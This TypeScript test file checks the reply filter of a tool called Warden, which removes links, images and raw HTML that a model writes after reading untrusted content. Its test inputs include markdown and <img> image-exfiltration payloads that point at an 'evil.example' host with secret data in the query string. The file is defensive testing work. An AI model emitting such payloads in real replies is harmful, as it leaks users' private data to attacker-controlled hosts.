import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { createFlowTracker } from "../gate/flow-tracker.ts";
import { filterReplyText, removalNote } from "./reply-filter.ts";

const deps = { redact: (t: string) => t, baseSecrets: () => [], systemPrompt: "You are Warden.", publicSystemPrompt: "You are Warden." };
const owner = { kind: "owner", id: "webchat:owner", channel: "webchat" } as const;

/** The flow state after the owner asked about their notes and the agent read them (untrusted, private). */
function afterFileRead() {
  const t = createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1_000_000, history: [], userText: "what is in mail.txt?", userSource: "owner" });
  t.observe("tool:read:mail.txt", "Mia: photos at https://photos.example.org/album/hike", false);
  return t.state();
}

describe("reply filter: removed links are explained to the owner", () => {
  test("the owner's reply says once why its link went, and names no URL", async () => {
    // The file's own link stays (it existed before this conversation); the two the model composed go.
    const out = await filterReplyText(deps, owner, afterFileRead(), "Photos: https://photos.example.org/album/hike, https://other.example/b?d=1 and https://other.example/c", "owner");
    assert.match(out, /^Photos: https:\/\/photos\.example\.org\/album\/hike, \[link to other\[\.\]example removed by Warden\] and \[link to other/);
    assert.match(out, /\n\n\(Warden removed 2 links from this reply: this conversation holds content that did not come from you .*\/new starts a clean conversation\.\)$/);
    assert.equal(out.split("Warden removed").length, 2, "one note");
    assert.doesNotMatch(out, /other\.example\//);
  });

  test("others get the removal mark without the owner's note; a reply with nothing removed is unchanged", async () => {
    const other = await filterReplyText(deps, owner, afterFileRead(), "Photos: https://other.example/b", "other");
    assert.match(other, /removed by Warden/);
    assert.doesNotMatch(other, /Warden removed/);
    assert.equal(await filterReplyText(deps, owner, afterFileRead(), "You have one mail from Mia.", "owner"), "You have one mail from Mia.");
  });

  test("an image the model wrote in a clean context is explained as an image", () => {
    assert.match(removalNote({ tainted: false, secretRead: false }, [{ kind: "image" }]), /removed an image the model wrote: an image loads by itself/);
    assert.equal(removalNote({ tainted: true, secretRead: false }, []), "");
  });
});

describe("reply filter: a clean context refuses only what loads by itself", () => {
  const clean = () => createFlowTracker({ label: () => [], baseSecrets: [], clock: () => 1_000_000, history: [], userText: "write me a long answer", userSource: "owner" }).state();

  test("a reply with no image and no HTML leaves as written, links, emphasis and size alike", async () => {
    const links = "See [the report](https://other.example/r?d=1), <https://a.example> is not here, and https://b.example/x. ";
    const plain = "See [the report](https://other.example/r?d=1) and https://b.example/x, *emphasis* _too_ & [ref].\n\n";
    assert.equal(await filterReplyText(deps, owner, clean(), plain, "owner"), plain);
    // Past what the parser takes (unparsed text is otherwise escaped): nothing in it can load, so nothing changes.
    const big = plain.repeat(Math.ceil(200_000 / plain.length));
    assert.equal(await filterReplyText(deps, owner, clean(), big, "owner"), big);
    // An autolink starts with `<`, so this one is parsed; a clean context keeps it.
    assert.equal(await filterReplyText(deps, owner, clean(), links, "owner"), links);
  });

  test("images and HTML are still found and removed: inline, by reference, and as raw HTML", async () => {
    for (const reply of ["Look: ![chart](https://evil.example/c.png?d=secret)", "Look: ![chart][c]\n\n[c]: https://evil.example/c.png", "Look: <img src=\"https://evil.example/c.png\">"]) {
      const out = await filterReplyText(deps, owner, clean(), reply, "owner");
      assert.match(out, /\[(image|HTML) removed by Warden\]/, reply);
      assert.doesNotMatch(out, /!\[|<img/, reply);
      assert.match(out, /Warden removed an image the model wrote/, reply);
    }
  });

  test("an untrusted context still judges every link of a reply without images", async () => {
    const out = await filterReplyText(deps, owner, afterFileRead(), "Plain: https://other.example/b?d=1", "owner");
    assert.match(out, /\[link to other\[\.\]example removed by Warden\]/);
  });
});
